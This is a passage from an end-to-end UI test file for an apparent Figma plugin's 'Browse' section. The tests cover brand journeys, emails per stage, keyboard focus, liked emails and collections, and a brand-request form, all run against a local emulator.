  it('stays as chosen for the next journey opened, also after a visit to another section (it went back to 3 each time)', async () => {
    const journeys = await libraryAsync<{ data: Array<{ brand_slug: string }> }>('/v1/journeys?per_page=50');
    expect(journeys.data.length).toBeGreaterThan(1);
    const [first, second] = [journeys.data[0]!, journeys.data[1]!];
    type JourneyBody = { data: { stages: Array<{ stage: string; emails: unknown[] }> } };
    const fiveOfSecond = await libraryAsync<JourneyBody>(`/v1/journeys/${second.brand_slug}?emails_per_stage=5`, state.library.keys.demo);
    const stage = fiveOfSecond.data.stages.find((known) => known.emails.length > 3)!;
    expect(stage, 'a stage of the second journey with more than three emails').toBeDefined();
    const ui = await openBrowseAsync('light', 'key');
    const journeyRow = async (slug: string) => ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button', { name: startingWith(await brandNameAsync(slug)) });
    await sectionButton(ui, 'Journeys').click();
    await (await journeyRow(first.brand_slug)).click();
    await ui.getByLabel('Emails per stage').selectOption('5');
    await ui.getByRole('button', { name: '← All journeys' }).click();
    await (await journeyRow(second.brand_slug)).click();
    expect(await ui.getByLabel('Emails per stage').inputValue()).toBe('5');
    await expect.poll(() => ui.getByRole('list', { name: `${stage.stage} emails` }).getByRole('listitem').count(), { timeout: 10_000 }).toBe(stage.emails.length);
    await sectionButton(ui, 'Emails').click();
    await sectionButton(ui, 'Journeys').click();
    // The journey stays open through the visit; opened again from the list, it keeps the number too.
    await expect.poll(() => ui.getByRole('list', { name: `${stage.stage} emails` }).getByRole('listitem').count(), { timeout: 10_000 }).toBe(stage.emails.length);
    await ui.getByRole('button', { name: '← All journeys' }).click();
    await (await journeyRow(second.brand_slug)).click();
    expect(await ui.getByLabel('Emails per stage').inputValue()).toBe('5');
    await expect.poll(() => ui.getByRole('list', { name: `${stage.stage} emails` }).getByRole('listitem').count(), { timeout: 10_000 }).toBe(stage.emails.length);
  });
});

describe('Browse: a journey’s stages while another number of emails per stage loads, and no journeys at all', () => {
  it('says the new stages are loading while the old ones stay, and says so when the library has no journey', async () => {
    const journeys = await libraryAsync<{ data: Array<{ brand: string; brand_slug: string }> }>('/v1/journeys?per_page=50');
    const chosen = journeys.data[0]!;
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
    await ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button', { name: startingWith(await brandNameAsync(chosen.brand_slug)) }).click();
    await ui.getByRole('heading', { level: 3 }).first().waitFor({ timeout: 10_000 });
    // The library is slow to answer for five a stage: held until the test has looked.
    const five = (url: URL) => url.pathname === `/v1/journeys/${chosen.brand_slug}` && url.searchParams.get('emails_per_stage') === '5';
    let letThrough: () => void = () => undefined;
    const held = new Promise<void>((resolve) => (letThrough = resolve));
    const stopFiveAsync = await addRouteAsync(h.page, five, async (route) => {
      await held;
      // Let go of already when the designer moved on.
      await route.continue().catch(() => undefined);
    });
    try {
      await ui.getByLabel('Emails per stage').selectOption('5');
      const loading = ui.getByRole('status').filter({ hasText: 'Loading 5 emails per stage…' });
      await loading.waitFor({ timeout: 10_000 });
      // The stages shown meanwhile are still the three a stage.
      expect(await ui.getByRole('heading', { level: 3 }).count()).toBeGreaterThan(0);
      await checkAxeAsync(ui, 'a journey loading another number per stage, light');
      // Not inserted as a board meanwhile: it would have three a stage, not the five chosen.
      const insert = ui.getByRole('button', { name: 'Insert journey as board' });
      expect(await insert.isDisabled()).toBe(true);
      letThrough();
      await expect.poll(() => loading.count(), { timeout: 10_000 }).toBe(0);
      expect(await insert.isDisabled()).toBe(false);
    } finally {
      letThrough();
      await stopFiveAsync();
    }

    // A library with no journey: the list says so instead of standing empty.
    const list = (url: URL) => url.pathname === '/v1/journeys';
    const stopListAsync = await addRouteAsync(h.page, list, async (route) => {
      const response = await route.fetch();
      const body = (await response.json()) as { data: unknown[]; meta: Record<string, unknown> };
      await route.fulfill({ response, json: { ...body, data: [], meta: { ...body.meta, total: 0 } } });
    });
    try {
      const fresh = await openBrowseAsync('light', 'key');
      await fresh.getByRole('button', { name: 'Journeys', exact: true }).click();
      await expect.poll(() => textOf(fresh.getByTestId('journeys-empty')), { timeout: 10_000 }).toBe('The library has no journeys yet.');
      await checkAxeAsync(fresh, 'no journeys, light');
    } finally {
      await stopListAsync();
    }
  });
});

describe('Browse: the list of journeys', () => {
  it('names each brand as the library does (“Fernwood Knitwear”), not by its address slug (“fernwood-knitwear”)', async () => {
    const journeys = await libraryAsync<{ data: Array<{ brand: string; brand_slug: string }> }>('/v1/journeys?per_page=50');
    const brands = await libraryAsync<{ data: Array<{ name: string; slug: string }> }>('/v1/brands?per_page=50');
    const names = new Map(brands.data.map((brand) => [brand.slug, brand.name]));
    const named = journeys.data.filter((journey) => names.has(journey.brand_slug));
    expect(named.length).toBeGreaterThan(0);
    const ui = await openBrowseAsync('light', 'anonymous');
    await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
    const rows = ui.getByRole('list', { name: 'Brands with a journey' }).locator('.brand-row-name');
    await expect.poll(() => rows.allTextContents(), { timeout: 10_000 }).toEqual(journeys.data.map((journey) => names.get(journey.brand_slug) ?? journey.brand));
    // The journey opened takes the name the list showed.
    const first = named[0]!;
    await ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button', { name: startingWith(names.get(first.brand_slug)!) }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(`${names.get(first.brand_slug)!}: journey`);
  });
});

describe('Browse: a journey by keyboard', () => {
  it('takes the keyboard into the journey it opens and back to its row, with the way back at the left as on a brand', async () => {
    const journeys = await libraryAsync<{ data: Array<{ brand: string; brand_slug: string }> }>('/v1/journeys?per_page=50');
    const chosen = journeys.data[1]!;
    const ui = await openBrowseAsync('light', 'key');
    const focused = () => ui.evaluate(() => (document.activeElement === document.body ? 'the page' : `${document.activeElement?.tagName ?? ''} ${document.activeElement?.textContent ?? ''}`));
    await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
    const row = ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button', { name: startingWith(await brandNameAsync(chosen.brand_slug)) });
    await row.focus();
    await h.page.keyboard.press('Enter');
    // The list went from under the keyboard: it fell to the page's body.
    await expect.poll(focused, { timeout: 10_000 }).toMatch(/^H2 .*journey$/);
    const back = ui.getByRole('button', { name: '← All journeys' });
    const left = async (locator: typeof back) => locator.evaluate((element) => Math.round(element.getBoundingClientRect().left));
    expect(await left(back)).toBe(await left(ui.getByRole('heading', { level: 2 })));
    await back.focus();
    await h.page.keyboard.press('Enter');
    await expect.poll(focused).toBe(`BUTTON ${(await row.textContent()) ?? ''}`);
  });
});

describe('Browse: Escape in a journey or a collection', () => {
  const focusedIn = (ui: Frame) => () => ui.evaluate(() => (document.activeElement === document.body ? 'the page' : `${document.activeElement?.tagName ?? ''} ${document.activeElement?.textContent ?? ''}`));

  it('goes back from a journey to its row, as from an email or a brand’s page (it did nothing), and from an email opened in it back to the journey', async () => {
    const journeys = await libraryAsync<{ data: Array<{ brand: string; brand_slug: string }> }>('/v1/journeys?per_page=50');
    const chosen = journeys.data[0]!;
    const name = await brandNameAsync(chosen.brand_slug);
    const ui = await openBrowseAsync('light', 'key');
    const focused = focusedIn(ui);
    await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
    const row = ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button', { name: startingWith(name) });
    const rowText = await row.textContent();
    await row.click();
    await expect.poll(focused, { timeout: 10_000 }).toBe(`H2 ${name}: journey`);
    // An email opened from the journey: Escape goes back to the journey, not past it.
    const stage = (await libraryAsync<{ data: { stages: Array<{ stage: string }> } }>(`/v1/journeys/${chosen.brand_slug}?emails_per_stage=3`, state.library.keys.demo)).data.stages[0]!.stage;
    await ui.getByRole('list', { name: `${stage} emails` }).getByRole('button').first().click();
    await ui.getByRole('button', { name: '← Back to the journey' }).waitFor({ timeout: 10_000 });
    await h.page.keyboard.press('Escape');
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(`${name}: journey`);
    await ui.waitForTimeout(300);
    expect(await ui.getByRole('button', { name: '← All journeys' }).isVisible()).toBe(true);
    // Escape pressed on another screen leaves the journey open in Browse.
    await ui.getByTestId('nav-sync').click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Sync');
    await ui.getByRole('heading', { level: 1 }).click();
    await h.page.keyboard.press('Escape');
    await ui.getByTestId('nav-browse').click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 }))).toBe(`${name}: journey`);
    await ui.getByRole('heading', { level: 2 }).focus();
    await h.page.keyboard.press('Escape');
    await expect.poll(focused, { timeout: 10_000 }).toBe(`BUTTON ${rowText ?? ''}`);
    expect(await ui.getByRole('button', { name: '← All journeys' }).count()).toBe(0);
  });

  it('goes back from a collection to its row (it did nothing)', async () => {
    const collections = await libraryAsync<{ data: Array<{ id: string; name: string }> }>('/v1/me/collections', state.library.keys.demo);
    const collection = collections.data[1]!;
    const ui = await openBrowseAsync('light', 'key');
    const focused = focusedIn(ui);
    await ui.getByRole('button', { name: 'Me', exact: true }).click();
    await ui.getByRole('button', { name: 'Collections', exact: true }).click();
    const row = ui.getByRole('list', { name: 'Collections', exact: true }).getByRole('button', { name: new RegExp(`^${collection.name}`) });
    const rowText = await row.textContent();
    await row.click();
    await expect.poll(focused, { timeout: 10_000 }).toBe(`H3 ${collection.name}`);
    await h.page.keyboard.press('Escape');
    await expect.poll(focused, { timeout: 10_000 }).toBe(`BUTTON ${rowText ?? ''}`);
  });
});

describe('Browse: an email opened from a journey or a brand', () => {
  it('names where its back button goes (it said “Back to results” and went to the journey or the brand)', async () => {
    const journeys = await libraryAsync<{ data: Array<{ brand: string; brand_slug: string }> }>('/v1/journeys?per_page=50');
    const chosen = journeys.data[0]!;
    const name = await brandNameAsync(chosen.brand_slug);
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
    await ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button', { name: startingWith(name) }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(`${name}: journey`);
    const stage = (await libraryAsync<{ data: { stages: Array<{ stage: string }> } }>(`/v1/journeys/${chosen.brand_slug}?emails_per_stage=3`, state.library.keys.demo)).data.stages[0]!.stage;
    await ui.getByRole('list', { name: `${stage} emails` }).getByRole('button').first().click();
    await ui.getByRole('button', { name: '← Back to the journey' }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(`${name}: journey`);

    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    await ui.getByRole('list', { name: 'Top brands' }).getByRole('button').first().click();
    await expect.poll(() => ui.getByRole('list', { name: /^Emails from / }).getByRole('button').count(), { timeout: 10_000 }).toBeGreaterThan(0);
    const brand = await ui.getByRole('heading', { level: 2 }).textContent();
    await ui.getByRole('list', { name: /^Emails from / }).getByRole('button').first().click();
    await ui.getByRole('button', { name: '← Back to the brand' }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(brand);
  });
});

describe('Browse: a journey’s emails per stage', () => {
  it('asks once when the designer steps the number up with the arrow keys', async () => {
    const journeys = await libraryAsync<{ data: Array<{ brand: string; brand_slug: string }> }>('/v1/journeys?per_page=50');
    const chosen = journeys.data[0]!;
    const { context, page: browsePage, ui } = await openBrowseWithClockAsync(h);
    try {
      await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
      await ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button', { name: startingWith(await brandNameAsync(chosen.brand_slug)) }).click();
      // Headed by the brand's name (read from its page), not the journey's slug.
      const { data: page } = await libraryAsync<{ data: { brand: { name: string } } }>(`/v1/brands/${chosen.brand_slug}?per_page=1`);
      await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(`${page.brand.name}: journey`);
      const { urls: sent, stop: stopWatching } = watchRequests((request) => request.url().startsWith(`${h.emulator.libraryUrl}/v1/journeys/${chosen.brand_slug}?`), undefined, browsePage);
      try {
        await ui.getByLabel('Emails per stage').focus();
        // From 3 to 7, a press at a time, at a person's pace on the window's own clock (in real time a
        // loaded machine could space two presses further than the number's wait for the typing to stop).
        await pressAtPersonsPaceAsync(context, browsePage, ui, ['ArrowDown', 'ArrowDown', 'ArrowDown', 'ArrowDown']);
        expect(await ui.getByLabel('Emails per stage').inputValue()).toBe('7');
        await expect.poll(() => sent.length, { timeout: 10_000 }).toBeGreaterThan(0);
        await nothingMoreAskedAsync(context);
        expect(sent).toEqual([`${h.emulator.libraryUrl}/v1/journeys/${chosen.brand_slug}?emails_per_stage=7`]);
      } finally {
        stopWatching();
      }
    } finally {
      await context.close();
    }
  });
});

describe('Browse: me', () => {
  it('shows my follows with the newest emails from them, my likes and my collections', async () => {
    const key = state.library.keys.demo;
    const follows = await libraryAsync<{ data: BrandRecord[]; meta: { total: number; max: number } }>('/v1/me/follows', key);
    const followed = await libraryAsync<{ data: Array<{ subject_line?: string; title: string }> }>('/v1/me/follows/emails?per_page=20', key);
    const likes = await libraryAsync<{ data: Array<{ subject_line?: string; title: string }>; meta: { total: number } }>('/v1/me/likes?per_page=20', key);
    const collections = await libraryAsync<{ data: Array<{ id: string; name: string }> }>('/v1/me/collections', key);
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Me', exact: true }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { name: /^Following/ })), { timeout: 10_000 }).toBe(`Following ${follows.meta.total} brands (you can follow up to ${follows.meta.max})`);
    expect(follows.data.length, 'the demo account follows brands').toBeGreaterThan(0);
    await expect.poll(() => textOf(ui.getByRole('list', { name: 'Followed brands', exact: true })), { timeout: 10_000 }).toContain(follows.data[0]!.name);
    expect(followed.data.length).toBeGreaterThan(0);
    const newest = followed.data[0]!.subject_line ?? followed.data[0]!.title;
    await expect.poll(() => textOf(ui.getByRole('list', { name: 'Newest from followed brands' })), { timeout: 10_000 }).toContain(newest);
    await ui.getByRole('button', { name: 'Likes', exact: true }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { name: /liked emails$/ })), { timeout: 10_000 }).toBe(`${likes.meta.total} liked emails`);
    expect(likes.data.length).toBeGreaterThan(0);
    await expect.poll(() => textOf(ui.getByRole('list', { name: 'Liked emails' })), { timeout: 10_000 }).toContain(likes.data[0]!.subject_line ?? likes.data[0]!.title);
    await ui.getByRole('button', { name: 'Collections', exact: true }).click();
    expect(collections.data.length).toBeGreaterThan(0);
    const collection = collections.data[0]!;
    await ui.getByRole('list', { name: 'Collections', exact: true }).getByRole('button', { name: new RegExp(`^${collection.name}`) }).click();
    const inCollection = await libraryAsync<{ data: { emails: Array<{ subject_line?: string; title: string }> } }>(`/v1/me/collections/${collection.id}?per_page=20`, key);
    const first = inCollection.data.emails[0]!;
    const list = ui.getByRole('list', { name: `Emails in ${collection.name}` });
    await expect.poll(() => textOf(list.getByRole('listitem').first()), { timeout: 10_000 }).toContain(first.subject_line ?? first.title);
    await list.getByRole('button').first().click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(first.subject_line ?? first.title);
    await h.page.keyboard.press('Escape');
    await list.waitFor();
    await checkAxeAsync(ui, 'me, light');
  });

  it('says the newest emails’ next page is loading under them, where More was pressed (it said so above their heading)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Me', exact: true }).click();
    const rows = ui.getByRole('list', { name: 'Newest from followed brands' });
    await rows.getByRole('listitem').first().waitFor({ timeout: 10_000 });
    const nextPage = (url: URL) => url.pathname === '/v1/me/follows/emails' && url.searchParams.get('page') === '2';
    let release: () => void = () => undefined;
    const held = new Promise<void>((resolve) => (release = resolve));
    const stopNextPageAsync = await addRouteAsync(h.page, nextPage, async (route) => {
      await held;
      await route.continue().catch(() => undefined);
    });
    try {
      await ui.getByRole('button', { name: 'More', exact: true }).click();
      const loading = ui.getByRole('status').filter({ hasText: 'Loading…' });
      await expect.poll(() => loading.count(), { timeout: 5_000 }).toBe(1);
      // Where it shows: after the newest emails' list, not before their heading.
      const after = await rows.evaluate((list, status) => Boolean(list.compareDocumentPosition(status!) & Node.DOCUMENT_POSITION_FOLLOWING), await loading.elementHandle());
      expect(after).toBe(true);
    } finally {
      release();
      await stopNextPageAsync();
    }
  });

  it('takes the keyboard into the collection it opens and back to its row (it fell to the page’s body both ways)', async () => {
    const collections = await libraryAsync<{ data: Array<{ id: string; name: string }> }>('/v1/me/collections', state.library.keys.demo);
    const collection = collections.data[1]!;
    const ui = await openBrowseAsync('light', 'key');
    const focused = () => ui.evaluate(() => (document.activeElement === document.body ? 'the page' : `${document.activeElement?.tagName ?? ''} ${document.activeElement?.textContent ?? ''}`));
    await ui.getByRole('button', { name: 'Me', exact: true }).click();
    await ui.getByRole('button', { name: 'Collections', exact: true }).click();
    const row = ui.getByRole('list', { name: 'Collections', exact: true }).getByRole('button', { name: new RegExp(`^${collection.name}`) });
    await row.focus();
    await h.page.keyboard.press('Enter');
    await expect.poll(focused, { timeout: 10_000 }).toBe(`H3 ${collection.name}`);
    const back = ui.getByRole('button', { name: '← All collections' });
    const left = async (locator: typeof back) => locator.evaluate((element) => Math.round(element.getBoundingClientRect().left));
    expect(await left(back)).toBe(await left(ui.getByRole('heading', { name: collection.name })));
    await back.focus();
    await h.page.keyboard.press('Enter');
    await expect.poll(focused).toBe(`BUTTON ${(await row.textContent()) ?? ''}`);
  });

  it('says how much of a long collection is shown, so paging through it has an end in sight', async () => {
    const collections = await libraryAsync<{ data: Array<{ id: string; name: string; email_count: number }> }>('/v1/me/collections', state.library.keys.demo);
    const long = collections.data.find((collection) => collection.email_count > 20)!;
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Me', exact: true }).click();
    await ui.getByRole('button', { name: 'Collections', exact: true }).click();
    await ui.getByRole('list', { name: 'Collections', exact: true }).getByRole('button', { name: startingWith(long.name) }).click();
    const shown = ui.getByText(/^Showing \d+ of \d+ emails\.$|^\d+ emails?\.$/);
    await expect.poll(() => textOf(shown), { timeout: 10_000 }).toBe(`Showing 20 of ${long.email_count} emails.`);
    await ui.getByRole('button', { name: 'More', exact: true }).click();
    await expect.poll(() => textOf(shown), { timeout: 10_000 }).toBe(`${long.email_count} emails.`);
    expect(await ui.getByRole('list', { name: `Emails in ${long.name}` }).getByRole('listitem').count()).toBe(long.email_count);
  });

  it('asks once for a “captured since” date typed digit by digit under the brands I follow', async () => {
    const { context, page, ui } = await openBrowseWithClockAsync(h);
    await ui.getByRole('button', { name: 'Me', exact: true }).click();
    await ui.getByRole('heading', { name: /^Following \d/ }).waitFor({ timeout: 10_000 });
    const { urls: sent, stop: stopWatching } = watchRequests((request) => request.url().startsWith(`${h.emulator.libraryUrl}/v1/me/follows/emails?`) && request.url().includes('since='), decodeURIComponent, page);
    try {
      await ui.getByLabel('Captured since').filter({ visible: true }).focus();
      await pressAtPersonsPaceAsync(context, page, ui, [...'11012025']);
      await expect.poll(() => sent.length, { timeout: 10_000 }).toBeGreaterThan(0);
      await nothingMoreAskedAsync(context);
      expect(sent).toHaveLength(1);
      expect(sent[0]).toContain('since=2025-11-01');
    } finally {
      stopWatching();
      await context.close();
    }
  });

  it('counts one liked email in the singular (it said “1 liked emails”)', async () => {
    const key = state.library.keys.demo;
    const ui = await openBrowseAsync('light', 'key');
    const likes = await libraryAsync<{ data: Array<{ id: number }> }>('/v1/me/likes?per_page=50', key);
    expect(likes.data.length).toBeGreaterThan(1);
    // The library removes all but one of them.
    for (const like of likes.data.slice(1)) {
      const removed = await fetch(`${h.emulator.libraryUrl}/_emulator/library/emails/${like.id}/remove`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
      expect(removed.ok).toBe(true);
    }
    await ui.getByRole('button', { name: 'Me', exact: true }).click();
    await ui.getByRole('button', { name: 'Likes', exact: true }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { name: /liked email/ })), { timeout: 10_000 }).toBe('1 liked email');
  });

  it('says how to add a key when there is none, with a way to Settings', async () => {
    const ui = await openBrowseAsync('light', 'anonymous');
    await ui.getByRole('button', { name: 'Me', exact: true }).click();
    await expect.poll(() => textOf(ui.getByTestId('me-needs-key')), { timeout: 10_000 }).toContain('need your library key');
    await ui.getByTestId('me-needs-key').getByRole('button', { name: 'Open Settings' }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Settings');
  });
});

describe('Browse: brand requests', () => {
  it('offers to ask for a brand that Brands cannot find, with its name filled in and the keyboard on the next field (the search ended there, with no way on)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    await ui.getByLabel('Search brands').fill('Zephyr Candles');
    await expect.poll(() => textOf(ui.getByRole('region', { name: 'Brands' })), { timeout: 10_000 }).toContain('No brand called “Zephyr Candles” in the library.');
    await ui.getByRole('button', { name: 'Ask the library to add it' }).click();
    const form = ui.getByRole('form', { name: 'Ask for a brand' });
    await expect.poll(() => form.getByLabel('Brand', { exact: true }).inputValue(), { timeout: 10_000 }).toBe('Zephyr Candles');
    await expect.poll(() => ui.evaluate(() => document.activeElement?.id)).toBe('request-website');
    expect(await ui.getByRole('button', { name: 'Requests', exact: true }).getAttribute('aria-current')).toBe('page');
    await checkAxeAsync(ui, 'a request for a brand Brands could not find');
    // A half-filled request for another brand is kept, not overwritten.
    await form.getByLabel('Website').fill('zephyrcandles.com');
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    await ui.getByLabel('Search brands').fill('Quill Paper');
    await ui.getByRole('button', { name: 'Ask the library to add it' }).click({ timeout: 10_000 });
    await expect.poll(() => form.getByLabel('Website').inputValue(), { timeout: 10_000 }).toBe('zephyrcandles.com');
    expect(await form.getByLabel('Brand', { exact: true }).inputValue()).toBe('Zephyr Candles');
  });

  it('without a library key, puts the keyboard on Open Settings, and the brand asked for is in the form once a key is added (the focus was left on the page)', async () => {
    const ui = await openBrowseAsync('light', 'anonymous');
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    await ui.getByLabel('Search brands').fill('Zephyr Candles');
    await ui.getByRole('button', { name: 'Ask the library to add it' }).click({ timeout: 10_000 });
    const needsKey = ui.getByTestId('requests-need-key');
    await expect.poll(() => textOf(needsKey), { timeout: 10_000 }).toContain('needs your library key');
    await expect.poll(() => ui.evaluate(() => (document.activeElement === document.body ? 'the page' : document.activeElement?.textContent?.trim()))).toBe('Open Settings');
    await h.page.keyboard.press('Enter');
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Settings');
    await ui.getByTestId('settings-library-key').fill(state.library.keys.demo);
    await ui.getByTestId('settings-library-save').click();
    await expect.poll(() => evaluateHooks(h.page, async (hooks) => hooks.fake().figma.clientStorage.getAsync('envelope.library.apiKey')), { timeout: 10_000 }).toBe(state.library.keys.demo);
    await ui.getByTestId('nav-browse').click();
    const form = ui.getByRole('form', { name: 'Ask for a brand' });
    await expect.poll(() => form.getByLabel('Brand', { exact: true }).inputValue(), { timeout: 10_000 }).toBe('Zephyr Candles');
  });

  it('keeps what was typed for the next brand while the last request was on its way', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
    const form = ui.getByRole('form', { name: 'Ask for a brand' });
    await form.getByLabel('Brand', { exact: true }).fill('Slow Lane Coffee');
    await form.getByLabel('Website').fill('slowlanecoffee.com');
    // The request's answer is held until the next brand is typed, so it is typed while the first is
    // on its way however slow the machine (an answer slowed by 2 s could come first).
    const sent = await holdRequestsAsync(h.page, h.emulator.libraryUrl, (url) => url.pathname === '/v1/brand-requests');
    try {
      await form.getByRole('button', { name: 'Send request' }).click();
      await expect.poll(() => sent.count(), { timeout: 10_000 }).toBeGreaterThan(0);
      // The designer goes on to the next brand while the first is sent.
      await form.getByLabel('Brand', { exact: true }).fill('Next Brand Along');
      // Still on its way once typed.
      expect(await textNowAsync(ui.getByTestId('request-outcome'))).not.toMatch(/^Requested/);
      await sent.releaseAsync();
      await expect.poll(() => textOf(ui.getByTestId('request-outcome')), { timeout: 15_000 }).toMatch(/^Requested Slow Lane Coffee\./);
    } finally {
      await sent.releaseAsync();
    }
    expect(await form.getByLabel('Brand', { exact: true }).inputValue()).toBe('Next Brand Along');
    // What was sent and not touched since is cleared.
    expect(await form.getByLabel('Website').inputValue()).toBe('');
  });

  it('keeps a half-filled request while the designer looks the brand up under Brands and comes back', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
    const form = ui.getByRole('form', { name: 'Ask for a brand' });
    await form.getByLabel('Brand', { exact: true }).fill('Harbour Street Tea');
    await form.getByLabel('Website').fill('harbourstreettea.com');
    await form.getByLabel('Category').selectOption({ label: 'Food' });
    await form.getByLabel('Notes (optional)').fill('Their welcome series is lovely.');
    // Is it in the library already? A look under Brands, then back.
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    await ui.getByRole('searchbox', { name: 'Search brands' }).fill('Harbour Street');
    await expect.poll(() => textOf(ui.locator('.empty-state strong')), { timeout: 10_000 }).toBe('No brand called “Harbour Street” in the library.');
    await ui.getByRole('button', { name: 'Requests', exact: true }).click();
    expect(await form.getByLabel('Brand', { exact: true }).inputValue()).toBe('Harbour Street Tea');
    expect(await form.getByLabel('Website').inputValue()).toBe('harbourstreettea.com');
    expect(await form.getByLabel('Category').inputValue()).toBe('Food');
    expect(await form.getByLabel('Notes (optional)').inputValue()).toBe('Their welcome series is lovely.');
  });

  it('checks the form before sending, then says every outcome of the library in words', async () => {
    const faults = emulatorFaults(h.emulator);
    const key = state.library.keys.demo;
    const { urls: posts, stop: stopWatching } = watchRequests((request) => request.method() === 'POST' && request.url().startsWith(`${h.emulator.libraryUrl}/v1/brand-requests`));
    try {
      const ui = await openBrowseAsync('light', 'key');
      await ui.getByRole('button', { name: 'Requests', exact: true }).click();
      const form = ui.getByRole('form', { name: 'Ask for a brand' });
      const outcome = ui.getByTestId('request-outcome');
      const send = () => form.getByRole('button', { name: 'Send request' }).click();

      // Checked before sending: nothing leaves.
      await send();
      await expect.poll(() => textOf(form), { timeout: 10_000 }).toContain('Enter the brand’s name.');
      await form.getByLabel('Notes (optional)').fill('Weekly newsletter');
      await expect.poll(() => textOf(form), { timeout: 10_000 }).toContain('17 of 500 characters');
      expect(posts).toHaveLength(0);
      await h.page.screenshot({ path: `${SHOTS}/library-request-form-light.png` });

      // Queued, counted; then the same brand again: its status, not counted.
      await form.getByLabel('Brand', { exact: true }).fill('Envelope Test Brand');
      await form.getByLabel('Website').fill('envelopetestbrand.com');
      await send();
      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toMatch(/^Requested Envelope Test Brand\. Queued\. [^\d]*\d\d:\d\d UTC\.\s*$/);
      expect(await form.getByLabel('Brand', { exact: true }).inputValue()).toBe('');
      await expect.poll(() => textOf(ui.getByRole('list', { name: 'My requests' })), { timeout: 10_000 }).toContain('Envelope Test Brand');
      // Today's count said once, under My requests, with what counts (it was said in the outcome too, just above).
      await expect.poll(() => textOf(ui.getByTestId('requests-today')), { timeout: 10_000 }).toMatch(/^\d+ of today’s 50 brand requests used \(the day ends at midnight UTC; a brand already in the library or asked for before is not counted\)\. Statuses refresh every 15 minutes/);
      expect((await textOf(ui.getByRole('region', { name: 'Brand requests' })))!.match(/brand requests used/g)).toHaveLength(1);
      const usedToday = Number(/^(\d+) of today’s/.exec((await textOf(ui.getByTestId('requests-today'))) ?? '')![1]);
      await form.getByLabel('Brand', { exact: true }).fill('Envelope Test Brand');
      await form.getByLabel('Website').fill('envelopetestbrand.com');
      await send();
      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toMatch(/^You already asked for Envelope Test Brand: it was not counted again\. Queued\./);

      // Already in the library: a way to its page.
      const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=1');
      await form.getByLabel('Brand', { exact: true }).fill(top.data[0]!.name);
      await form.getByLabel('Website').fill('example-of-a-known-brand.com');
      await send();
      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toContain(`${top.data[0]!.name} is already in the library.`);

      // Not allowed: said, and the form kept.
      await form.getByLabel('Brand', { exact: true }).fill('Adult Things');
      await form.getByLabel('Website').fill('adultthings.com');
      await send();
      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toContain('does not collect adult content');
      expect(await form.getByLabel('Brand', { exact: true }).inputValue()).toBe('Adult Things');

      // Unavailable: try again, the form kept.
      await faults.setAsync({ rate: 1, kinds: ['503'] });
      await form.getByLabel('Brand', { exact: true }).fill('Quiet Harbour Tea');
      await form.getByLabel('Website').fill('quietharbourtea.com');
      await send();
      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toContain('could not save the request just now. Try again in a moment; your form is kept.');
      expect(await form.getByLabel('Website').inputValue()).toBe('quietharbourtea.com');
      await faults.setAsync({ rate: 0 });

      // The day's 50: when it resets.
      for (let n = usedToday; n < 50; n++) {
        const response = await fetch(`${h.emulator.libraryUrl}/v1/brand-requests`, {
          method: 'POST',
          headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
          body: JSON.stringify({ brand: `Filler Brand ${n}`, website: `filler-brand-${n}.com` }),
        });
        expect(response.status).toBe(201);
      }
      await send();
      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toMatch(/^You have made today’s 50 brand requests \(the day ends at midnight UTC\)\. You can try again after (\w+ )?\d\d:\d\d, in about [^.]+\. Your form is kept\./);
